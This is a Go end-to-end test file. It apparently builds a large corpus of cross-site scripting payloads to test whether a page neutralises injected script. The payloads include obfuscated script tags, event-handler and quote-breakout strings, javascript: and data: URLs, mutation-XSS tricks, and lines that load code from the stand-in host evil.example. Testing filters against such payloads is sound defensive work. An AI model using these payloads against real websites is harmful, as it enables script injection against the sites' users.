package e2e_test

import (
	"fmt"
	"strings"
)

// mark is called by every payload that runs; {n} is its number. It says its number on the console, by which a run is seen.
const mark = "alert({n})"

// corpus are texts that run as a script where a page does not treat them as text: those classes of attack there are, and each in the
// disguises that filters are known to let through.
func corpus() []string {
	var out []string
	add := func(texts ...string) { out = append(out, texts...) }
	for _, open := range []string{"<script>", "<SCRIPT>", "<ScRiPt >", "<script\t>", "<script\n>", "<script/x>", "<script/ >", "<script type=module>", "<script type=text/javascript>", "<svg><script>", "<math><script>", "</title><script>", "</textarea><script>", "</style><script>", "</template><script>", "</noscript><script>", "</select><script>", "-->\u200b<script>", "]]><script>", "<<script>", "<scr<script>ipt>", "<script x='>'>"} {
		add(open + mark + "</script>")
	}
	for _, src := range []string{"data:text/javascript," + mark, "data:;base64,YWxlcnQoMSk=", "javascript:" + mark, "//evil.example/x.js", "https://evil.example/x.js", `\\evil.example/x.js`} {
		add(`<script src="`+src+`"></script>`, `<script src='`+src+`'></script>`, `<svg><script href="`+src+`"/></svg>`, `<svg><script xlink:href="`+src+`"/></svg>`, `<link rel=import href="`+src+`">`, `<link rel=modulepreload href="`+src+`">`, `<link rel=stylesheet href="`+src+`">`)
	}
	handlers := map[string][]string{
		"onerror":  {"img src=x", "img src", "image src=x", "video src=x", "audio src=x", "input type=image src=x", "object data=x", "script src=x", "link rel=stylesheet href=x", "svg><image href=x", "video><source src=x", "picture><img srcset=x"},
		"onload":   {"svg", "body", "iframe src=about:blank", "iframe srcdoc=x", "link rel=stylesheet href=/assets/style.css", "style", "img src=/favicon.ico", "input type=image src=/favicon.ico", "object data=/favicon.ico", "embed src=/favicon.ico", "frameset"},
		"onfocus":  {"input autofocus", "textarea autofocus", "select autofocus", "button autofocus", "a href=x autofocus", "div tabindex=1 autofocus", "details open autofocus tabindex=0", "summary autofocus tabindex=0"},
		"ontoggle": {"details open", "details ontoggle=x open"}, "onbegin": {"svg><animate attributeName=x dur=1s", "svg><set attributeName=x"}, "onend": {"svg><animate attributeName=x dur=1ms"},
		"onanimationstart": {"x style=animation-name:x", "div class=note style=animation:1s"}, "ontransitionrun": {"x style=transition:1s"}, "onpageshow": {"body"}, "onhashchange": {"body"}, "onscroll": {"body", "div style=overflow:scroll"},
		"onmouseover": {"a", "div", "p", "b", "marquee"}, "onpointerenter": {"a", "x"}, "onclick": {"a", "button", "x"}, "onstart": {"marquee"}, "onfinish": {"marquee loop=1"}, "onloadstart": {"video src=x", "audio src=x"}, "oncanplay": {"video src=/favicon.ico"},
		"onbeforematch": {"div hidden=until-found"}, "oncontentvisibilityautostatechange": {"x style=display:block;content-visibility:auto"}, "onslotchange": {"slot"}, "onsecuritypolicyviolation": {"x"}, "onbeforetoggle": {"div popover"}, "onscrollend": {"x"},
	}
	for _, name := range sortedKeys(handlers) {
		for _, tag := range handlers[name] {
			add(fmt.Sprintf("<%s %s=%s>", tag, name, mark), fmt.Sprintf("\"><%s %s=\"%s\">", tag, name, mark), fmt.Sprintf("'><%s %s='%s'//", tag, strings.ToUpper(name), mark))
		}
	}
	for _, quote := range []string{`"`, `'`, "`", `\"`, `&quot;`, `&#34;`, `&#x27;`, "\u2033", "\u201d", "\uff02", "\u02ba"} {
		add(quote+" onfocus="+mark+" autofocus x="+quote, quote+"autofocus/onfocus="+mark+"//", quote+" style=x onanimationstart="+mark+" "+quote, quote+"/><svg/onload="+mark+">")
	}
	for _, scheme := range []string{"javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "java\rscript:", "\u0001javascript:", "javascript&colon;", "&#106;avascript:", "&#x6a;avascript:", "javascript\u200b:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==,", "data:image/svg+xml,<svg onload=", "view-source:javascript:", "feed:javascript:", "blob:javascript:"} {
		add(scheme+mark, `<a href="`+scheme+mark+`">x</a>`, `<iframe src="`+scheme+mark+`"></iframe>`, `<form action="`+scheme+mark+`"><button>x</button></form>`, "["+"x]("+scheme+mark+")")
	}
	for _, svg := range []string{"<use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>" + mark + "</script></svg>#x\"/>", "<a xlink:href=\"javascript:" + mark + "\"><text>x</text></a>", "<animate attributeName=href values=javascript:" + mark + " />", "<foreignObject><body onload=" + mark + "></foreignObject>", "<handler xmlns:ev='x' ev:event=load>" + mark + "</handler>", "<style>@import 'data:text/css,*{}'</style>", "<desc><img src=x onerror=" + mark + "></desc>", "<title><img src=x onerror=" + mark + "></title>"} {
		add("<svg>"+svg+"</svg>", "\"><svg xmlns=\"http://www.w3.org/2000/svg\">"+svg+"</svg>")
	}
	for _, mutation := range []string{"<noscript><p title=\"</noscript><img src=x onerror=" + mark + ">\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=" + mark + "&gt;\">", "<svg></p><style><a id=\"</style><img src=x onerror=" + mark + ">\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=" + mark + ">", "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=" + mark + ">", "<table><td><svg><style></td><img src=x onerror=" + mark + ">", "<listing>&lt;img src=x onerror=" + mark + "&gt;</listing>", "<xmp><p title=\"</xmp><img src=x onerror=" + mark + ">\">", "<select><iframe></select><img src=x onerror=" + mark + ">", "<textarea><p title=\"</textarea><img src=x onerror=" + mark + ">\">", "<!--><img src=x onerror=" + mark + ">-->", "<!--x--!><img src=x onerror=" + mark + ">-->", "<![CDATA[><img src=x onerror=" + mark + ">]]>", "<?xml ><img src=x onerror=" + mark + ">?>", "<plaintext><img src=x onerror=" + mark + ">", "<template><img src=x onerror=" + mark + "></template>", "<template shadowrootmode=open><img src=x onerror=" + mark + "></template>", "&lt;img src=x onerror=" + mark + "&gt;", "&amp;lt;script&amp;gt;" + mark, "%3Cscript%3E" + mark + "%3C/script%3E", "\\u003cscript\\u003e" + mark + "\\u003c/script\\u003e", "\\x3cscript\\x3e" + mark, "+ADw-script+AD4-" + mark + "+ADw-/script+AD4-"} {
		add(mutation, "x"+mutation, "\">"+mutation)
	}
	for _, template := range []string{"{{constructor.constructor('" + mark + "')()}}", "${" + mark + "}", "#{" + mark + "}", "<%= " + mark + " %>", "{{= " + mark + " }}", "{% " + mark + " %}", "[[${" + mark + "}]]", "{{.}}{{printf \"%s\" .}}", "{{html \"<script>\"}}", "`${" + mark + "}`", "');" + mark + ";('", "\");" + mark + ";(\"", "\\');" + mark + "//", "*/" + mark + "/*", "\u2028" + mark + "\u2029", "</script><script>" + mark + "//", "}]};" + mark + "//", "1;" + mark} {
		add(template)
	}
	for _, odd := range []string{"\uff1cscript\uff1e" + mark + "\uff1c/script\uff1e", "\u2039script\u203a" + mark, "<\u0130mg src=x onerror=" + mark + ">", "<\u017fcript>" + mark + "</\u017fcript>", "<script\u0085>" + mark + "</script>", "<img\u00a0src=x onerror=" + mark + ">", "<img\u000bsrc=x\u000bonerror=" + mark + ">", "<img\u000csrc=x\u000conerror=" + mark + ">", "<img/src=x/onerror=" + mark + ">", "\u202e<script>" + mark + "</script>", "\ufeff<script>" + mark + "</script>", "<s\u0301cript>" + mark, "<img src=x on\u200berror=" + mark + ">", "\u003cimg src=x onerror=" + mark + "\u003e", "\U0001d4c8<svg onload=" + mark + ">"} {
		add(odd, odd+odd)
	}
	for _, load := range []string{"<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:" + mark + "\">", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<object data=\"data:text/html,<script>" + mark + "</script>\"></object>", "<embed src=\"data:image/svg+xml,<svg onload=" + mark + ">\">", "<iframe srcdoc=\"<script>" + mark + "</script>\"></iframe>", "<frameset onload=" + mark + ">", "<isindex action=javascript:" + mark + " type=image>", "<style>@import '//evil.example/x.css';</style>", "<div style=\"background:url(javascript:" + mark + ")\">", "<div style=\"width:expression(" + mark + ")\">", "<input name=action><input id=submit form=x>", "<form id=x></form><button form=x formaction=javascript:" + mark + ">x</button>", "<img name=cookie><a id=location>", "<dialog open onclose=" + mark + "><form method=dialog><button autofocus></form>", "<portal src=javascript:" + mark + ">", "<bgsound src=javascript:" + mark + ">", "<applet code=x>", "<keygen autofocus onfocus=" + mark + ">", "<img usemap=#x><map name=x><area shape=default href=javascript:" + mark + "></map>"} {
		add(load, "\"'>"+load)
	}
	for i := range out {
		out[i] = strings.ReplaceAll(out[i], "{n}", fmt.Sprint(i))
	}
	return out
}
